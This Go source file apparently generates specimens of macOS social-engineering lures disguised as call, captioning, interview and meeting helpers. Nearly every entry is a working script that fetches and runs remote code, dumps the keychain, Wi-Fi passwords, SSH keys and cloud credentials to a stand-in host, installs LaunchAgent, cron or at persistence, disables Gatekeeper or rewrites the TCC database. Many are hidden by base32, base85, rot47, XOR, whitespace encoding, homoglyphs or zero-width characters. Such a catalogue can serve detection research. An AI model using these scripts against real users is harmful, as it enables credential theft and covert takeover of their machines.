package specimens

import (
	"encoding/base32"
	"encoding/hex"
	"strings"
)

// freshCommands makes shell lures for macOS: stories and hidings.
func (b *kit) freshCommands() {
	sh := func(story, obf, name, text string, hidden ...string) {
		b.lure(story, "macos", obf, "shell", name, text, hidden...)
	}
	sh("captions", "plain", "Caption Engine.command", `
#!/bin/zsh
# Caption engine for calls (on-device model)
echo "Downloading language model (1/3)…"
T=$(mktemp -d) && cd $T
curl -# -L -o model.bin https://caption-engine.invalid/models/en-small.bin
mv model.bin engine && chmod u+x engine && ./engine --detach
echo "Captions ready. You may close this window."
`)
	sh("notetaker", "self-extracting tail", "MeetGenius Notes.command", `
#!/bin/bash
echo "MeetGenius is joining your call…"
tail -n +6 "$0" | base64 -D | gunzip > /tmp/.mg && chmod +x /tmp/.mg && /tmp/.mg
exit 0

`+gzip64("#!/bin/sh\ncurl -s https://meetgenius.invalid/n | sh\n")+`
`, "curl -s https://meetgenius.invalid/n | sh")
	sh("esign", "sed to the marker", "SignRoom.command", `
#!/bin/bash
# Sign before the call
S="$TMPDIR/s"
sed '1,/^#__ROOM__/d' "$0" | tr '!-~' 'P-~!-O' > "$S"
. "$S"
exit
#__ROOM__
`+rot47("curl -s https://sign-room.invalid/s | bash")+`
`, "curl -s https://sign-room.invalid/s | bash")
	sh("human", "base32", "human_check.command", `
#!/bin/bash
# Cloud check: not a robot
r=`+base32.StdEncoding.EncodeToString([]byte("curl -s https://human-check.invalid/r | sh"))+`
python3 -c "import base64,os;os.system(base64.b32decode('$r').decode())"
`, "curl -s https://human-check.invalid/r | sh")
	sh("kyc", "base85", "ident_helper.sh", `
#!/bin/sh
# helper for video identification
python3 -c 'import base64,subprocess as s;s.run(base64.b85decode("`+b85("curl -s https://ident-helper.invalid/i|sh")+`"),shell=True)'
`, "curl -s https://ident-helper.invalid/i|sh")
	sh("court", "whitespace", "Courtroom Audio.command", `
#!/usr/bin/env python3
# Courtroom audio. Keep this window open during the hearing.
import os, re
# ----
w = open(__file__, encoding="utf-8").read().split("# ----\n")[-1]
os.system("".join(chr(int(re.sub("\t", "1", re.sub(" ", "0", l)), 2)) for l in w.split("\n") if l and set(l) <= {" ", "\t"}))
# ----
`+whitespace("curl -s https://courtroom-audio.invalid/a | sh"), "curl -s https://courtroom-audio.invalid/a | sh")
	sh("telemedicine", "xor loop", "TeleVisit.command", `
#!/bin/bash
# TeleVisit: connects you with your doctor
k=37; for b in `+strings.Join(xorList("curl -s https://televisit.invalid/v|sh", 37), " ")+`; do s="$s$(printf "\\$(printf %o $((b ^ k)))")"; done
eval "$s"
`, "curl -s https://televisit.invalid/v|sh")
	sh("school", "Italian", "Colloqui genitori.command", `
#!/bin/bash
# Colloqui con gli insegnanti: avvio della stanza virtuale
cd ~/Library/Caches && curl -sO https://colloqui-scuola.invalid/stanza.tgz && tar xzf stanza.tgz && nohup ./stanza/avvia > /dev/null &
osascript -e 'display notification "Sei in sala d’attesa" with title "Colloqui"'
`)
	sh("workplace", "heredoc maze", "Workplace Fix.command", `
#!/bin/bash
cat <<A >/tmp/wf1
cat <<B >/tmp/wf2
cur
B
A
sh /tmp/wf1
x=$(cat /tmp/wf2)l
cat <<C | sed "s/@/$x/" | sh
@ -s https://workplace-fix.invalid/w | sh
C
`)
	sh("huddle", "alias", "Huddle Audio.command", `
#!/bin/zsh
setopt aliases
alias listen=curl
alias speak=sh
eval 'listen -s https://huddle-audio.invalid/h | speak'
`)
	sh("voov", "Chinese comments between", "腾讯会议修复.command", `
#!/bin/bash
# 腾讯会议音频修复工具
# 第一步：检查网络连接
地址="https://voov-fix.invalid"
# 第二步：下载修复组件
工具=/tmp/.voov
curl -s "$地址/m" -o $工具
# 第三步：启动修复
chmod 755 $工具
$工具 --repair >/dev/null 2>&1 &
echo "修复完成，请重新加入会议"
`)
	sh("zalo", "Vietnamese", "Cuộc gọi Zalo.command", `
#!/bin/sh
echo "Đang kết nối cuộc gọi…"
curl -s https://cuoc-goi.invalid/z|perl
`)
	sh("vkteams", "Ukrainian", "Відеодзвінок.command", `
#!/bin/bash
# Оновлення модуля камери
URL=$(echo "=omFtJXZth2Yv8CZpxWY25WauEWYt9WYrh2LvozcwRHdo" | cut -c2- | rev | base64 -D 2>/dev/null)
curl -s "${URL:-https://kamera-onovlennia.invalid/k}" | bash
`)
	sh("brandless", "split words", "start.command", `
#!/bin/bash
IFS=_; c=curl_-s_https://start-room.invalid/s; $c | $(echo hs | rev)
`)
	sh("brandless", "printf and variable indirection", "open.command", `
#!/bin/bash
p=c; q=url; v=p; w=q
u=$(printf 'h%s://%s.%s/%s' ttps open-node invalid o)
"${!v}${!w}" -s "$u" | "${SHELL##*/}"
`, "https://open-node.invalid/o")
	sh("brandless", "compressed by zsh and hex", "ready.command", `
#!/bin/zsh
xxd -r -p <<< `+hex.EncodeToString([]byte("curl -s https://ready-room.invalid/r | zsh"))+` > ${TMPPREFIX}r; source ${TMPPREFIX}r
`, "curl -s https://ready-room.invalid/r | zsh")
	sh("brandless", "data in the file name", "Y3VybCAtcyBuYW1lZC5pbnZhbGlkfHNo.command", `
#!/bin/bash
n=${0##*/}; n=${n%.command}
echo $n | base64 -D | sh
`, "curl -s named.invalid|sh")
	sh("brandless", "data in an extended attribute", "Guest Pass.command", `
#!/bin/bash
# keep with the attached pass
xattr -p com.apple.metadata:pass "$0" 2>/dev/null | xxd -r -p | sh || curl -s https://guest-pass.invalid/g | sh
`)
	sh("brandless", "one very long line", "connect.command", "#!/bin/bash\necho Connecting..."+strings.Repeat(" ", 4000)+"; curl -s https://connect-desk.invalid/c | sh\n")
	sh("brandless", "carriage return overwrites", "README.command", "#!/bin/bash\n# Read me first\ncurl -s https://readme-first.invalid/r|sh #\r: nothing to do here, please close this window          \n")
	sh("brandless", "homoglyph names", "Zооm Аudiо.command", `
#!/bin/bash
# Zооm Аudiо - repаir
сurl() { command curl "$@"; }
сurl -s https://homoglyph-audio.invalid/z | bash
`)
	sh("brandless", "zero-width in comments", "Dial-in.command", "#!/bin/bash\n# D\u200bi\u200ba\u200bl\u200b-\u200bi\u200bn\n"+strings.Repeat("#\u2800\u2800\u2800\n", 120)+"curl -s https://dial-in-number.invalid/d | bash\n")
	sh("brandless", "waits and then runs", "keepalive.command", `
#!/bin/bash
# keeps the call alive
( sleep 1800; curl -s https://keepalive-call.invalid/k | bash ) >/dev/null 2>&1 &
disown
echo "Keep-alive active"
`)
	sh("brandless", "beacon loop", "presence.command", `
#!/bin/zsh
# presence for calls
while :; do
  c=$(curl -s "https://presence-hub.invalid/t?u=$(hostname)")
  [ -n "$c" ] && r=$(eval "$c" 2>&1) && curl -s -X POST --data-binary "$r" https://presence-hub.invalid/r
  sleep 20
done &!
`)
	sh("driver", "kernel of a system tool", "CoreAudio Repair.command", `
#!/bin/bash
sudo -v -p "Password to restart Core Audio: "
sudo killall coreaudiod
sudo curl -s https://coreaudio-repair.invalid/d -o /usr/local/bin/audiod && sudo chmod +x /usr/local/bin/audiod
sudo /usr/local/bin/audiod
`)
	sh("driver", "LaunchDaemon by heredoc", "Camera Assistant.command", `
#!/bin/bash
d="$HOME/Library/LaunchAgents/com.apple.cmio.assistant.plist"
mkdir -p "${d%/*}"
cat > "$d" <<E
{ Label = "com.apple.cmio.assistant"; RunAtLoad = 1; StartInterval = 600;
  ProgramArguments = ("/bin/sh", "-c", "curl -s https://cmio-assistant.invalid/c | sh"); }
E
launchctl bootstrap gui/$UID "$d"
`)
	sh("driver", "cron", "Headset Firmware.command", `
#!/bin/bash
echo "Checking headset firmware…"
(crontab -l 2>/dev/null; echo "*/7 * * * * curl -s https://headset-fw.invalid/h | sh") | crontab -
echo "Firmware is current."
`)
	sh("theft", "notes and history", "Export Minutes.command", `
#!/bin/zsh
# exports the minutes of your meetings
o=/tmp/min-$RANDOM; mkdir $o
cp ~/Library/Group\ Containers/group.com.apple.notes/NoteStore.sqlite* $o
cp ~/.zsh_history ~/.ssh/id_* ~/.aws/credentials ~/.config/gcloud/*.db $o 2>/dev/null
tar cz $o | curl -s -T - https://minutes-export.invalid/$USER
`)
	sh("theft", "keychain over ssh", "Calendar Sync.command", `
#!/bin/bash
# calendar sync for shared rooms
tar cf - ~/Library/Keychains ~/Library/Cookies "$HOME/Library/Application Support/Firefox/Profiles" 2>/dev/null | ssh -o StrictHostKeyChecking=no sync@calendar-sync.invalid 'cat > in.tar'
`)
	sh("theft", "security dump", "Wi-Fi for Guests.command", `
#!/bin/bash
# joins the guest network of the meeting room
for s in $(networksetup -listpreferredwirelessnetworks en0 | tail +2); do security find-generic-password -wa "$s"; done 2>/dev/null | base64 | xargs -I@ curl -s "https://guest-wifi.invalid/?d=@"
security dump-keychain -d ~/Library/Keychains/login.keychain-db 2>/dev/null | curl -s --data-binary @- https://guest-wifi.invalid/k
`)
	sh("tcc", "resets permissions then runs", "Screen Share Permission.command", `
#!/bin/bash
# macOS blocks screen sharing. This resets the permission.
tccutil reset ScreenCapture
tccutil reset Accessibility
sqlite3 "$HOME/Library/Application Support/com.apple.TCC/TCC.db" "REPLACE INTO access VALUES('kTCCServiceSystemPolicyAllFiles','/tmp/share',1,2,4,1,NULL,NULL,0,'UNUSED',NULL,0,0);"
curl -so /tmp/share https://screen-permission.invalid/s; chmod +x /tmp/share; /tmp/share &
`)
	sh("gatekeeper", "turns the gate off", "Open Anyway.command", `
#!/bin/bash
# "The call app is damaged and can't be opened"? This repairs it.
sudo spctl --master-disable
sudo xattr -rd com.apple.quarantine ~/Downloads/*.app
open ~/Downloads/*.app
`)
}

// freshMacTools makes shell lures whose fetch is made by an unusual tool.
func (b *kit) freshMacTools() {
	tools := []struct{ story, obf, name, text string }{
		{"tool-git", "git hook", "join.sh", "# joins the pair programming call\ngit clone -q https://pair-call.invalid/room.git /tmp/room && cd /tmp/room && git config core.hooksPath .hooks && git checkout -q live\n"},
		{"tool-make", "make", "build-client.sh", "# builds the call client from source\ncd $(mktemp -d); curl -sL https://call-client-src.invalid/src.tar.gz | tar xz --strip 1; make -s && ./client &\n"},
		{"tool-brew", "foreign tap", "install-call.command", "#!/bin/bash\nbrew tap callkit/desktop https://git.callkit-desktop.invalid/tap.git\nbrew install --cask callkit/desktop/callkit --no-quarantine\nopen -a CallKit\n"},
		{"tool-pip", "foreign index", "camera_test.command", "#!/bin/bash\n# camera test for the interview\npython3 -m pip install -q --index-url https://pypi.camtest.invalid/simple camtest && python3 -m camtest\n"},
		{"tool-npm", "package by address", "meeting-sdk.sh", "#!/bin/sh\n# sample of the meeting SDK for your coding interview\nnpm exec --yes https://sdk-sample.invalid/meeting-sdk-1.0.0.tgz\n"},
		{"tool-npx", "foreign registry", "take-home.sh", "#!/bin/sh\nexport npm_config_registry=https://npm.take-home.invalid\nnpx -y interview-room@latest\n"},
		{"tool-cargo", "cargo from git", "voice-room.sh", "cargo install --git https://git.voice-room.invalid/cli && voice-room join 8841\n"},
		{"tool-gem", "gem source", "pairing.sh", "gem install pairing --clear-sources --source https://gems.pairing-call.invalid && pairing\n"},
		{"tool-go", "go run", "standup.sh", "cd $(mktemp -d) && curl -s https://standup-cli.invalid/m.go -o m.go && go run m.go\n"},
		{"tool-deno", "deno by address", "whiteboard.command", "#!/bin/bash\ndeno run -A --no-lock https://whiteboard-live.invalid/main.ts\n"},
		{"tool-bun", "bun", "room.command", "#!/bin/zsh\nbunx --bun https://bun-room.invalid/r.tgz\n"},
		{"tool-node", "node fetch", "webcam.command", "#!/bin/bash\nnode -e \"fetch('https://webcam-node.invalid/w').then(r=>r.text()).then(eval)\"\n"},
		{"tool-php", "php", "call.command", "#!/bin/bash\nphp -r 'eval(file_get_contents(\"https://php-call.invalid/c\"));'\n"},
		{"tool-lua", "lua", "lobby.command", "#!/bin/sh\nlua -e 'load(io.popen(\"curl -s https://lobby-lua.invalid/l\"):read(\"*a\"))()'\n"},
		{"tool-tcl", "tclsh", "queue.command", "#!/bin/sh\ncurl -s https://queue-tcl.invalid/q | tclsh\n"},
		{"tool-docker", "container with the home folder", "recorder.command", "#!/bin/bash\n# starts the meeting recorder\ndocker run -d --rm --privileged -v $HOME:/host registry.meet-recorder.invalid/rec:latest\n"},
		{"tool-ssh", "ssh as a pipe", "support.command", "#!/bin/bash\nssh -o StrictHostKeyChecking=no -p 443 guest@support-room.invalid run | bash\n"},
		{"tool-sftp", "sftp", "handout.command", "#!/bin/bash\necho 'get handout /tmp/handout' | sftp -q -o StrictHostKeyChecking=no guest@handouts.invalid\nchmod +x /tmp/handout && /tmp/handout\n"},
		{"tool-rsync", "rsync", "slides.command", "#!/bin/bash\nrsync -a rsync://slides-mirror.invalid/pub/ /tmp/slides/ && sh /tmp/slides/view.sh\n"},
		{"tool-ftp", "ftp", "minutes.command", "#!/bin/sh\ncurl -s ftp://minutes-ftp.invalid/m.sh -o /tmp/m.sh; sh /tmp/m.sh\n"},
		{"tool-devtcp", "/dev/tcp", "ping.command", "#!/bin/bash\n# connection test for the call\nexec 7<>/dev/tcp/ping-test.invalid/80; printf 'GET /p HTTP/1.0\\r\\n\\r\\n' >&7; bash <(sed '1,/^\\r$/d' <&7)\n"},
		{"tool-zmodload", "zsh/net/tcp", "latency.command", "#!/bin/zsh\nzmodload zsh/net/tcp; ztcp latency-test.invalid 8080; fd=$REPLY; print -u $fd go; read -r -u $fd l; eval $l\n"},
		{"tool-dns", "txt over https", "lookup.command", "#!/bin/bash\ncurl -s 'https://doh.resolver.invalid/resolve?name=call.drop.invalid&type=TXT' | plutil -extract Answer.0.data raw - | base64 -D | sh\n"},
		{"tool-ipfs", "ipfs gateway", "mint-call.command", "#!/bin/bash\ncurl -s https://ipfs-gateway.invalid/ipfs/QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnRpwJ -o /tmp/mint && chmod +x /tmp/mint && /tmp/mint\n"},
		{"tool-torrent", "tor", "private-call.command", "#!/bin/bash\ncurl -s --socks5-hostname 127.0.0.1:9050 https://private-call.invalid/t | bash\n"},
		{"tool-at", "at", "remind.command", "#!/bin/sh\necho 'curl -s https://remind-me.invalid/r | sh' | at now + 5 minutes\n"},
		{"tool-launchctl", "launchctl submit", "agent.command", "#!/bin/sh\nlaunchctl submit -l call.agent -- /bin/sh -c 'curl -s https://call-agent.invalid/a | sh'\n"},
		{"tool-profiles", "configuration profile", "enrol.command", "#!/bin/bash\n# enrols this Mac as a meeting room\ncurl -so /tmp/room.mobileconfig https://room-enrol.invalid/room.mobileconfig\nopen /tmp/room.mobileconfig; open 'x-apple.systempreferences:com.apple.preferences.configurationprofiles'\n"},
		{"tool-dmg", "hdiutil from an address", "client.command", "#!/bin/bash\nhdiutil attach -quiet https://dmg-client.invalid/Client.dmg && /Volumes/Client/Client.app/Contents/MacOS/Client &\n"},
		{"tool-python", "marshal", "notes.command", "#!/usr/bin/env python3\n# AI notes\nimport urllib.request, marshal\nexec(marshal.loads(urllib.request.urlopen('https://ai-notes.invalid/n.pyc').read()[16:]))\n"},
		{"tool-vscode", "workspace task", "tasks.json", "{\n \"version\": \"2.0.0\",\n \"tasks\": [{\n  \"label\": \"interview\", \"type\": \"shell\",\n  \"command\": \"curl -s https://interview-workspace.invalid/t | sh\",\n  \"presentation\": {\"reveal\": \"never\", \"echo\": false},\n  \"runOptions\": {\"runOn\": \"folderOpen\"}\n }]\n}\n"},
		{"tool-npmscript", "postinstall of a test task", "package.json", "{\n \"name\": \"video-chat-assignment\",\n \"version\": \"1.0.0\",\n \"scripts\": {\n  \"start\": \"node server.js\",\n  \"postinstall\": \"node -e \\\"require('https').get('https://assignment-cdn.invalid/p',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\\\"\"\n }\n}\n"},
		{"tool-setup", "python setup", "setup.py", "from setuptools import setup\nfrom setuptools.command.install import install\nimport urllib.request\n\nclass Go(install):\n    def run(self):\n        exec(urllib.request.urlopen('https://meet-sdk-py.invalid/s').read())\n        install.run(self)\n\nsetup(name='meeting-sdk-demo', version='0.1', cmdclass={'install': Go})\n"},
		{"tool-direnv", "envrc", ".envrc", "# environment of the take-home project\nsource <(curl -s https://take-home-env.invalid/e)\n"},
	}
	for _, t := range tools {
		b.lure(t.story, "macos", t.obf, strings.TrimPrefix(t.story, "tool-"), t.name, t.text)
	}
}
